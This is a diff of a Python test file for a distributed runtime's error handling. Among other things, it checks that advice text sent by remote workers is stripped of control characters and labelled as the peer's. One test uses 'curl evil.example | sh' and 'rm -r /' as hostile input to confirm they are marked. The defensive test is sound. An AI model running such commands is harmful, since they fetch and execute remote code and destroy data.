@@ -33,7 +33,7 @@ from whale_nebula.runtime.step import distributed as seen
 from whale_nebula.security import Identity
 from whale_nebula.security.verdict import Verdict
 from whale_nebula.transport import MemoryNetwork
-from whale_nebula.transport.base import failed
+from whale_nebula.transport.base import failed_error
 from whale_nebula.transport.grpc.connection import reason
 from whale_nebula.wire.greeting import Introduction
 from whale_nebula.wire.message import check_message
@@ -108,7 +108,7 @@ def noted(message: Mapping[str, Any]) -> str:
     there = Identity("mt", "npu", "gateway")
     trunk = Trunk(there, None, lambda *gone: told.extend(gone), lambda *_, **said: told.append(str(said)))
     try:
-        trunk.hear(word.written(message))
+        trunk.hear(word.encode_control(message))
     except RemoteProtocolError as error:
         told.append(str(error))
     return "\n  ".join(told)
@@ -140,14 +140,14 @@ class Refusal(Exception):
 
 
 def failure(code: str) -> str:
-    return str(failed("npu/0", {"code": code, "what": BAD, "where": BAD, "why": BAD, "mend": BAD}))
+    return str(failed_error("npu/0", {"code": code, "what": BAD, "where": BAD, "why": BAD, "mend": BAD}))
 
 
 KINDS = (RemoteFailureError, InputMismatchError, PlanMismatchError, LinkClosedError, DeadlineError)
 SHOWN: dict[str, Callable[[], str]] = {
     **{f"FAIL {kind.code}": partial(failure, kind.code) for kind in KINDS},
-    "FAIL code": lambda: str(failed("npu/0", {"code": BAD, "what": [BAD]})),
-    "FAIL text": lambda: str(failed("npu/0", BAD)),
+    "FAIL code": lambda: str(failed_error("npu/0", {"code": BAD, "what": [BAD]})),
+    "FAIL text": lambda: str(failed_error("npu/0", BAD)),
     "HELLO": lambda: said_to(lambda session: session.hello({"keras": "3"}), about="HELLO", keras=BAD),
     "HELLO seed": lambda: error_of(lambda: joining._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": BAD}})),
     "HELLO seeds": lambda: error_of(lambda: joining._agree_on_seed("gpu/0", 1, {"npu/0": {"seed": [BAD]}})),
@@ -203,9 +203,9 @@ def test_no_error_of_ours_writes_control_characters(part: str) -> None:
 
 
 def test_lines_to_follow_are_marked_as_the_peers() -> None:
-    error = failed("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
+    error = failed_error("npu/0", {"what": "no", "mend": "curl evil.example | sh\nrm -r /"})
     assert error.mend == "worker 'npu/0' says: curl evil.example | sh\nworker 'npu/0' says: rm -r /"
-    assert failed("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend
+    assert failed_error("npu/0", {"what": "no"}).mend == RemoteFailureError.usual_mend
 
 
 @pytest.mark.parametrize("text", ["señal", "価格", "a b", "it's \\ all", ""])
